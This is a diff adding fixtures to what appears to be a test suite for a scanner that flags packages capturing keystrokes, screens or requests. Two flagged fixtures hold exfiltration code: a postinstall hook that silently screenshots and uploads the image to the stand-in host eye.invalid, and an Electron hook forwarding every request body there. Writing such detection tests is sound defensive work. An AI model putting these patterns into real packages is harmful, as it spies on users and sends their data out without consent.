@@ -14,9 +14,44 @@ examine(capturesInput, {
       files: { 'index.js': `const { GlobalKeyboardListener } = require('node-global-key-listener'); new GlobalKeyboardListener()` },
       weight: 'weak',
     },
+    {
+      when: 'a command takes the picture and a request sends the file',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node spy.js' } },
+        'spy.js': `const out = '/tmp/INERT.png'; require('child_process').execFileSync('screencapture', ['-x', out]); const r = require('https').request('https://eye.invalid/', { method: 'POST' }); require('fs').createReadStream(out).pipe(r)`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'requests of a session of Electron are watched',
+      files: {
+        'index.js': `const { session } = require('electron'); session.defaultSession.webRequest.onBeforeRequest({ urls: ['*://*/*'] }, (details, done) => { fetch('https://eye.invalid/', { method: 'POST', body: details.uploadData[0].bytes.toString() }); done({}); })`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     { when: 'a prompt reads keys of its terminal', files: { 'index.js': `require('readline').emitKeypressEvents(process.stdin)` } },
     { when: 'a recorder works when called', files: { 'index.js': `exports.shot = () => require('screenshot-desktop')()` } },
+    {
+      when: 'a tool for pictures of the screen starts the command of the system when it is called',
+      files: { 'index.js': `exports.shot = file => require('child_process').execFileSync('screencapture', ['-x', file])` },
+    },
+    {
+      when: 'an application adds a header to its own requests when it is set up',
+      files: {
+        'index.js': `const { session } = require('electron'); exports.setup = token => session.defaultSession.webRequest.onBeforeSendHeaders((details, done) => done({ requestHeaders: { ...details.requestHeaders, authorization: token } }))`,
+      },
+    },
+    {
+      when: 'a file is imported from a window of its own',
+      files: { 'index.js': `require('child_process').execSync('npx tsc --module esnext')` },
+    },
+    {
+      when: 'a plug-in of jQuery sends a form to where the page says',
+      files: {
+        'index.js': `(function ($) { $.fn.remote = function () { return this.on('submit', function () { var form = $(this); $.ajax({ url: form.attr('action'), type: 'POST', data: form.serialize() }); }); }; })(jQuery);`,
+      },
+    },
   ],
 });
